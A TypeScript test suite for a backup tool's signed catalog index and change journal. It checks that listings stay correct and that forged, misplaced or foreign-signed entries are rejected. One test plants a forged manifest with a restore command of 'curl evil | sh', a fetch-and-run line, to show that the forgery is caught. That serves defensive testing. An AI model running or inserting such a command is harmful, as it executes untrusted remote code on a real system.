import { generateKeyPairSync } from 'node:crypto';
import { fileURLToPath } from 'node:url';
import { execa } from 'execa';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { listVerifiedBackups, mapVerifiedBackups, scanCatalog } from '../activities/catalog';
import { indexKeys, listSources, readSourceCatalog } from '../activities/catalog-index';
import { noteManifest, noteRecord, noteRemoved } from '../activities/catalog-journal';
import { deleteBackupCopy } from '../activities/prune';
import { createDeps } from '../activities/deps';
import { putSigned } from '../activities/signed';
import { readAll, type StorageBackend } from '../activities/storage/backend';
import { keys, type Manifest } from '../lib/manifest';
import { signatureKey, signerFromPem, trustedKeys } from '../lib/signing';
import { makeFixture, type Fixture } from './support/fixture';
import { plantManifest, testSigner, trusted } from './support/signing';
import { plantRecord, verifyRecord } from './support/verify-records';

const servers = inject('servers');
const lifeboat = fileURLToPath(new URL('../bin/lifeboat', import.meta.url));

const idAt = (day: number) => `202611${String(day).padStart(2, '0')}T010000Z-index${String(day).padStart(7, '0')}`;

async function plant(storage: StorageBackend, source: string, day: number): Promise<void> {
  const id = idAt(day);
  const key = keys.object(source, id, 'data.zst.age');
  await storage.put(key, Buffer.from('data'));
  await plantManifest(storage, { id, source, kind: 'files', region: 'stockholm', finishedAt: `2026-11-${String(day).padStart(2, '0')}T01:00:05.000Z`, objects: [{ key, role: 'data', content: 'planted', size: 4, sha256: '0'.repeat(64) }] });
}

/** What a listing says, without the parts that legitimately differ between reads. */
const view = (catalog: Awaited<ReturnType<typeof listVerifiedBackups>>) => ({
  entries: catalog.entries.map((entry) => ({ id: entry.manifest.id, sha: entry.manifestSha256, keyId: entry.keyId, records: entry.records.map((r) => r.outcome) })),
  untrusted: catalog.untrusted,
});

async function sourceRead(storage: StorageBackend, source: string, options: Parameters<typeof readSourceCatalog>[4] = {}, keysTrusted = trusted) {
  const listed = await listSources(storage, source);
  return readSourceCatalog(storage, keysTrusted, source, listed.get(source) ?? [], options);
}

describe('the signed catalog index makes a listing cheap and never changes what it says', () => {
  let fixture: Fixture;
  let storage: StorageBackend;

  beforeAll(async () => {
    fixture = await makeFixture(servers, () => ({
      docs: { kind: 'files', region: 'stockholm', path: '/nonexistent' },
      logs: { kind: 'files', region: 'stockholm', path: '/nonexistent' },
    }));
    storage = createDeps(fixture.config).storage('stockholm');
    for (let day = 1; day <= 12; day++) await plant(storage, 'docs', day);
    for (let day = 1; day <= 3; day++) await plant(storage, 'logs', day);
    await plantRecord(storage, verifyRecord({ source: 'docs', backupId: idAt(3), region: 'stockholm', level: 'restore', outcome: 'passed', finishedAt: '2026-11-20T00:00:00.000Z' }));
  }, 120_000);

  afterAll(() => fixture?.cleanup());

  it('is written by a reader that signs, after which a listing reads no manifest and says the same', async () => {
    const before = view(await listVerifiedBackups(storage, trusted));
    expect(before.entries).toHaveLength(15);
    expect(before.entries.find((e) => e.id === idAt(3))!.records).toEqual(['passed']);
    const first = await sourceRead(storage, 'docs', { refresh: testSigner });
    expect(first.index).toBe('absent');
    expect(first.read).toBe(13);
    const written = await indexKeys(storage, 'docs');
    expect(written).toHaveLength(1);
    expect(await storage.stat(signatureKey(written[0]!))).toBeDefined();

    const again = await sourceRead(storage, 'docs');
    expect(again.index).toBe('used');
    expect(again.read).toBe(0);
    expect(again.entries.map((e) => e.manifest.id)).toEqual(first.entries.map((e) => e.manifest.id));
    expect(view(await listVerifiedBackups(storage, trusted))).toEqual(before);
  });

  it('reads a backup written since the index, and drops one deleted since, without a rewrite', async () => {
    await sourceRead(storage, 'docs', { refresh: testSigner });
    await plant(storage, 'docs', 20);
    await storage.remove(keys.manifest('docs', idAt(1)));
    const read = await sourceRead(storage, 'docs');
    expect(read.index).toBe('used');
    expect(read.read).toBe(1);
    const ids = read.entries.map((e) => e.manifest.id);
    expect(ids).toContain(idAt(20));
    expect(ids).not.toContain(idAt(1));
  });

  it('takes a manifest replaced after indexing for what it is now: a forgery is reported, not vouched for', async () => {
    await sourceRead(storage, 'docs', { refresh: testSigner });
    const key = keys.manifest('docs', idAt(5));
    const original = JSON.parse((await readAll(await storage.get(key))).toString()) as Manifest;
    // Someone with write access to the bucket and a key of their own rewrites a manifest and its signature.
    const { privateKey } = generateKeyPairSync('ed25519');
    const forger = signerFromPem(privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(), 'a foreign key');
    // Storage is write-once; the forger deletes first, as anyone with the credentials may.
    await storage.remove(key);
    await storage.remove(signatureKey(key));
    await putSigned(storage, key, Buffer.from(JSON.stringify({ ...original, restoreWith: 'curl evil | sh' })), forger);
    const scan = await scanCatalog(storage, trusted, 'docs');
    expect(scan.entries.map((e) => e.manifest.id)).not.toContain(idAt(5));
    expect(scan.untrusted).toEqual([{ key, reason: expect.stringContaining('not by any key in catalog.trustedKeys') as unknown }]);
    // Put back as it was, so the next tests see a clean catalog.
    await storage.remove(key);
    await storage.remove(signatureKey(key));
    await putSigned(storage, key, Buffer.from(JSON.stringify(original)), testSigner);
  });

  it('stops vouching for entries signed by a key removed from catalog.trustedKeys', async () => {
    await sourceRead(storage, 'docs', { refresh: testSigner });
    // The index is signed by the test key; a config that trusts only another key trusts neither it nor the manifests.
    const { publicKey } = generateKeyPairSync('ed25519');
    const other = trustedKeys([publicKey.export({ type: 'spki', format: 'der' }).toString('base64')]);
    const read = await sourceRead(storage, 'docs', {}, other);
    expect(read.index).toMatch(/^ignored: /);
    expect(read.entries).toEqual([]);
    expect(read.untrustedManifests.length).toBeGreaterThan(10);
    // Both keys trusted, the index is used: its entries still name the test key, which is trusted.
    const both = await sourceRead(storage, 'docs', {}, [...trusted, ...other]);
    expect(both.index).toBe('used');
    expect(both.read).toBe(0);
  });

  it('ignores an index copied from another source, another bucket, or with a bad signature, and still lists right', async () => {
    await sourceRead(storage, 'docs', { refresh: testSigner });
    await sourceRead(storage, 'logs', { refresh: testSigner });
    const expected = (await sourceRead(storage, 'logs', { ignoreIndex: true })).entries.map((e) => e.manifest.id);
    const [docsKey] = await indexKeys(storage, 'docs');
    const docsIndex = await readAll(await storage.get(docsKey!));
    const docsSignature = await readAll(await storage.get(signatureKey(docsKey!)));
    // Planted as a newer generation of the logs index than the real one.
    const plantedKey = `_catalog/logs/index-29991231T000000000Z-00000000.json`;
    await storage.put(signatureKey(plantedKey), docsSignature);
    await storage.put(plantedKey, docsIndex);
    const swapped = await sourceRead(storage, 'logs', { ignoreIndex: false });
    // The real one below it is used: the planted one is skipped, not believed.
    expect(swapped.index).toBe('used');
    expect(swapped.entries.map((e) => e.manifest.id)).toEqual(expected);
    for (const key of await indexKeys(storage, 'logs')) if (key !== plantedKey) await storage.remove(key);
    const alone = await sourceRead(storage, 'logs');
    expect(alone.index).toBe('ignored: it describes source "docs"');
    expect(alone.read).toBe(3);
    expect(alone.entries.map((e) => e.manifest.id)).toEqual(expected);

    const gothenburg = createDeps(fixture.config).storage('gothenburg');
    await gothenburg.put(signatureKey(docsKey!), docsSignature);
    await gothenburg.put(docsKey!, docsIndex);
    const elsewhere = await sourceRead(gothenburg, 'docs');
    expect(elsewhere.index).toBe(`ignored: it describes ${JSON.stringify(storage.location)}`);
    expect(elsewhere.entries).toEqual([]);

    const alteredKey = `_catalog/logs/index-29991231T000000001Z-00000000.json`;
    await storage.put(signatureKey(alteredKey), docsSignature);
    await storage.put(alteredKey, Buffer.from(docsIndex.toString().replace('"docs"', '"logs"')));
    const altered = await sourceRead(storage, 'logs');
    expect(altered.index).toBe('ignored: its signature is not by any key in catalog.trustedKeys (' + trusted[0]!.id + ')');
    expect(altered.entries.map((e) => e.manifest.id)).toEqual(expected);
    // A reader that signs replaces them all with one index of its own.
    await sourceRead(storage, 'logs', { refresh: testSigner });
    expect(await indexKeys(storage, 'logs')).toHaveLength(1);
    expect((await sourceRead(storage, 'logs')).index).toBe('used');
  });

  it('lifeboat catalog rebuild writes every index from the manifests, and backups list says the same after', async () => {
        const listBefore = await execa(lifeboat, ['--config', fixture.configFile, '--json', 'backups', 'list'], { env: fixture.env, reject: false });
    expect(listBefore.exitCode, listBefore.stderr).toBe(0);
    for (const key of await indexKeys(storage, 'docs')) await storage.remove(key);
    const rebuilt = await execa(lifeboat, ['--config', fixture.configFile, '--json', 'catalog', 'rebuild'], { env: fixture.env, reject: false });
    expect(rebuilt.exitCode, rebuilt.stderr).toBe(0);
    const rows = JSON.parse(rebuilt.stdout) as { region: string; source: string; backups: number; records: number; previous: string }[];
    expect(rows).toContainEqual(expect.objectContaining({ region: 'stockholm', source: 'docs', backups: 12, records: 1, previous: 'absent' }));
    expect(rows).toContainEqual(expect.objectContaining({ region: 'stockholm', source: 'logs', backups: 3 }));
    expect(rows).toContainEqual(expect.objectContaining({ region: 'gothenburg', source: 'docs', backups: 0 }));
    expect((await sourceRead(storage, 'docs')).read).toBe(0);
    expect((await sourceRead(storage, 'logs')).read).toBe(0);
    const listAfter = await execa(lifeboat, ['--config', fixture.configFile, '--json', 'backups', 'list'], { env: fixture.env, reject: false });
    expect(JSON.parse(listAfter.stdout)).toEqual(JSON.parse(listBefore.stdout));
  }, 120_000);
});

/** The storage, counting what was listed: a journal read lists `_catalog/<source>/` and nothing else. */
function counting(storage: StorageBackend): { storage: StorageBackend; listed: string[] } {
  const listed: string[] = [];
  const wrapped = new Proxy(storage, {
    get(target, property, receiver) {
      if (property === 'list') return (prefix: string) => { listed.push(prefix); return target.list(prefix); };
      if (property === 'children') return (prefix: string) => { listed.push(`children:${prefix}`); return target.children(prefix); };
      const value = Reflect.get(target, property, receiver) as unknown;
      return typeof value === 'function' ? (value as (...args: unknown[]) => unknown).bind(target) : value;
    },
  });
  return { storage: wrapped, listed };
}

describe('the catalog journal answers from the index and the changes written since, without listing the backups', () => {
  let fixture: Fixture;
  let storage: StorageBackend;
  const source = 'notes';
  const full = async () => view(await listVerifiedBackups(storage, trusted, source));
  const journal = async (on = storage) => view(await listVerifiedBackups(on, trusted, source, { listing: 'journal' }));

  beforeAll(async () => {
    fixture = await makeFixture(servers, () => ({ notes: { kind: 'files', region: 'stockholm', path: '/nonexistent' } }));
    storage = createDeps(fixture.config).storage('stockholm');
    for (let day = 1; day <= 6; day++) await plant(storage, source, day);
    await sourceRead(storage, source, { refresh: testSigner });
  }, 120_000);

  afterAll(() => fixture?.cleanup());

  it('shows a manifest, a verify record and a deletion that writers noted, reading only the catalog prefix', async () => {
    await plant(storage, source, 7);
    const key = keys.manifest(source, idAt(7));
    await noteManifest(storage, testSigner, source, key, await readAll(await storage.get(key)), testSigner.keyId);
    const record = verifyRecord({ source, backupId: idAt(7), region: 'stockholm', level: 'integrity', outcome: 'passed', finishedAt: '2026-11-21T00:00:00.000Z' });
    const recordKey = await plantRecord(storage, record);
    await noteRecord(storage, testSigner, source, recordKey, record);
    await deleteBackupCopy(storage, testSigner, source, idAt(2));
    await noteRemoved(storage, testSigner, source, [keys.backupPrefix(source, idAt(2))]);

    const { storage: watched, listed } = counting(storage);
    const answer = await journal(watched);
    expect(listed).toEqual([`_catalog/${source}/`]);
    expect(answer).toEqual(await full());
    const ids = answer.entries.map((e) => e.id);
    expect(ids).toContain(idAt(7));
    expect(ids).not.toContain(idAt(2));
    expect(answer.entries.find((e) => e.id === idAt(7))!.records).toEqual(['passed']);
  });

  it('does not see what was planted or deleted behind its back until a full read, which folds the changes into a new index and removes them', async () => {
    // Planted behind Lifeboat's back: a journal read cannot know; the full read that follows does.
    await plant(storage, source, 8);
    expect((await journal()).entries.map((e) => e.id)).not.toContain(idAt(8));
    // Deleted by someone else: an older backup is shown until a full read finds it gone; the
    // newest is looked for, and when it is gone the source is read in full at once.
    await storage.remove(keys.manifest(source, idAt(4)));
    expect((await journal()).entries.map((e) => e.id)).toContain(idAt(4));
    await plant(storage, source, 10);
    const key = keys.manifest(source, idAt(10));
    await noteManifest(storage, testSigner, source, key, await readAll(await storage.get(key)), testSigner.keyId);
    expect((await journal()).entries.map((e) => e.id)).toContain(idAt(10));
    await storage.remove(key);
    const fallen = (await journal()).entries.map((e) => e.id);
    expect(fallen).not.toContain(idAt(10));
    expect(fallen).not.toContain(idAt(4));
    expect(fallen).toContain(idAt(8));
    await sourceRead(storage, source, { refresh: testSigner });
    const left: string[] = [];
    for await (const info of storage.list(`_catalog/${source}/`)) left.push(info.key);
    expect(left.filter((k) => k.includes('/change-'))).toEqual([]);
    expect(left.filter((k) => /\/index-[^/]+\.json$/.test(k))).toHaveLength(1);
    expect(await journal()).toEqual(await full());
    expect((await journal()).entries.map((e) => e.id)).toContain(idAt(8));
    expect((await journal()).entries.map((e) => e.id)).not.toContain(idAt(10));
    expect((await journal()).entries.map((e) => e.id)).not.toContain(idAt(4));
  });

  it('ignores and reports a change signed by another key, about another source, or naming objects outside its source', async () => {
    const { privateKey } = generateKeyPairSync('ed25519');
    const forger = signerFromPem(privateKey.export({ type: 'pkcs8', format: 'pem' }).toString(), 'a foreign key');
    await plant(storage, source, 9);
    const key = keys.manifest(source, idAt(9));
    const bytes = await readAll(await storage.get(key));
    // The manifest is genuine; its change is not: the journal read leaves both the change and the backup out.
    await noteManifest(storage, forger, source, key, bytes, testSigner.keyId);
    const other = `_catalog/${source}/change-29991231T000000000Z-00000000.json`;
    await putSigned(storage, other, Buffer.from(JSON.stringify({ format: 'lifeboat-catalog-change/1', source: 'docs', location: storage.location, at: '', manifests: [], records: [], removed: [`${source}/`] })), testSigner);
    const outside = `_catalog/${source}/change-29991231T000000001Z-00000000.json`;
    await putSigned(storage, outside, Buffer.from(JSON.stringify({ format: 'lifeboat-catalog-change/1', source, location: storage.location, at: '', manifests: [], records: [], removed: ['docs/'] })), testSigner);
    const answer = await journal();
    expect(answer.entries.map((e) => e.id)).not.toContain(idAt(9));
    expect(answer.entries.length).toBeGreaterThan(4);
    const reasons = answer.untrusted.map((u) => u.reason);
    expect(reasons).toContainEqual(expect.stringContaining('not by any key in catalog.trustedKeys'));
    expect(reasons).toContain('it describes source "docs"');
    expect(reasons).toContain(`it names objects outside ${source}/`);
  });

  it('hands a reader that needs only part of each backup whole entries, and holds only what it keeps, in the same order and with the same distrust', async () => {
    const distrusted: Record<string, number> = {};
    for (const listing of ['journal', 'full'] as const) {
      const whole = await listVerifiedBackups(storage, trusted, undefined, { listing });
      const seen: string[] = [];
      const kept = await mapVerifiedBackups(storage, trusted, undefined, { listing }, (entry) => {
        // What the caller is given is the whole trusted entry: manifest, its hash and key, its records.
        expect(entry.manifestSha256).toMatch(/^[0-9a-f]{64}$/);
        seen.push(entry.manifest.id);
        return `${entry.manifest.source}/${entry.manifest.id}:${entry.records.length}`;
      });
      expect(kept.entries).toEqual(whole.entries.map((entry) => `${entry.manifest.source}/${entry.manifest.id}:${entry.records.length}`));
      expect([...seen].sort()).toEqual(whole.entries.map((entry) => entry.manifest.id).sort());
      expect(kept.untrusted).toEqual(whole.untrusted);
      distrusted[listing] = kept.untrusted.length;
    }
    // The forged changes above: only a journal read meets them.
    expect(distrusted.journal).toBeGreaterThan(0);
  });
});
